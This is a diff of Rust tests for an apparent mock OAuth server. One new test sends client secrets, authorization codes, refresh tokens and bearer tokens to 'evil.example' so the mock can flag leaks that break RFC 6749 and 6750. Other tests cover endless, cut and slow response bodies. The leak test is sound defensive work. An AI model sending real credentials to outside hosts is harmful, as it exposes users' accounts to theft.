@@ -96,6 +96,31 @@ fn what_is_without_effect_has_none_and_is_judged_all_the_same() {
 }
 
 #[test]
+fn what_is_sent_to_somebody_else_is_seen() {
+    let server = server();
+    let got = tokens(&server);
+    let code = returned(&server.authorize(&url(&server, &[])), "code").unwrap();
+    let (access, refresh) = (got.text("access_token"), got.text("refresh_token"));
+    let send_off = |fields: &[(&str, &str)], form: &[(&str, &str)]| {
+        let mut request = Request::post("https://evil.example/token");
+        for (name, value) in fields {
+            request = request.header(*name, *value);
+        }
+        assert_eq!(send(&server, request.body(encode(form)).unwrap()).status, 404);
+    };
+    send_off(&[], &[("client_id", "app")]);
+    server.assert_blameless();
+    send_off(&[basic()], &[]);
+    send_off(&[], &[("client_secret", "s%cret:&")]);
+    send_off(&[], &[("code", &code)]);
+    send_off(&[], &[("refresh_token", &refresh)]);
+    send_off(&[("authorization", &format!("Bearer {access}"))], &[]);
+    let secret = "rfc6749#10.8-1";
+    server.assert_violations(&[secret, secret, "rfc6749#10.8-2", "rfc6749#10.4-2", "rfc6750#5.3-1"]);
+    assert_eq!(server.count(Place::Elsewhere), 6);
+}
+
+#[test]
 fn a_plan_says_where_and_when() {
     let server = server();
     let refresh = tokens(&server).text("refresh_token");
@@ -223,6 +248,15 @@ fn without_a_socket_time_is_virtual() {
         server.plant(Plan::from(Misbehaviour::HugeBody(100_000_000)).once());
         let error = server.send(request(&server), limits).await.unwrap_err();
         assert_eq!(error.kind(), ErrorKind::Limit);
+        let kinds = [
+            (Misbehaviour::EndlessBody, ErrorKind::Limit),
+            (Misbehaviour::CutBody, ErrorKind::Io),
+            (Misbehaviour::Drip(Duration::from_secs(1)), ErrorKind::Timeout),
+        ];
+        for (misbehaviour, kind) in kinds {
+            server.plant(Plan::from(misbehaviour).once());
+            assert_eq!(server.send(request(&server), limits).await.unwrap_err().kind(), kind);
+        }
         server.plant(Plan::from(Misbehaviour::HugeBody(1000)).once());
         let body = server.send(request(&server), limits).await.unwrap().into_body();
         assert!(body.len() > 1000 && body.ends_with(b"  "));
@@ -266,12 +300,24 @@ fn the_same_server_listens_on_loopback() {
             server.plant(Plan::from(Misbehaviour::DropAfter).once());
             let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
             assert_eq!(talk(&mut stream, &form).await, "");
+            server.plant(Plan::from(Misbehaviour::CutBody).once());
+            let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
+            let answer = talk(&mut stream, &form).await;
+            assert!(answer.contains("\"access_token\"") && !answer.ends_with('}'), "{answer}");
+            server.plant(Plan::from(Misbehaviour::Drip(Duration::ZERO)).once());
+            let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
+            assert!(talk(&mut stream, &form).await.ends_with('}'));
+            server.plant(Plan::from(Misbehaviour::EndlessBody).once());
+            let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
+            stream.write_all(form.as_bytes()).await.unwrap();
+            let mut much = vec![0; 1 << 20];
+            stream.read_exact(&mut much).await.unwrap();
+            let text = String::from_utf8_lossy(&much);
+            assert!(text.contains("\r\nTransfer-Encoding: chunked\r\n"));
+            assert!(!text.contains("Content-Length"));
         };
-        tokio::select! {
-            () = served.run() => unreachable!("it serves until it is dropped"),
-            () = client => {}
-        }
-        assert_eq!(server.live_access_tokens(), 3);
+        served.beside(client).await;
+        assert_eq!(server.live_access_tokens(), 6);
         server.assert_blameless();
     });
 }
@@ -297,10 +343,7 @@ fn under_mutual_tls_the_certificate_is_seen() {
             let answer = talk(&mut stream, &form).await;
             assert!(answer.starts_with("HTTP/1.1 200 OK\r\n"), "{answer}");
         };
-        tokio::select! {
-            () = served.run() => unreachable!("it serves until it is dropped"),
-            () = client => {}
-        }
+        served.beside(client).await;
         server.assert_blameless();
     });
 }
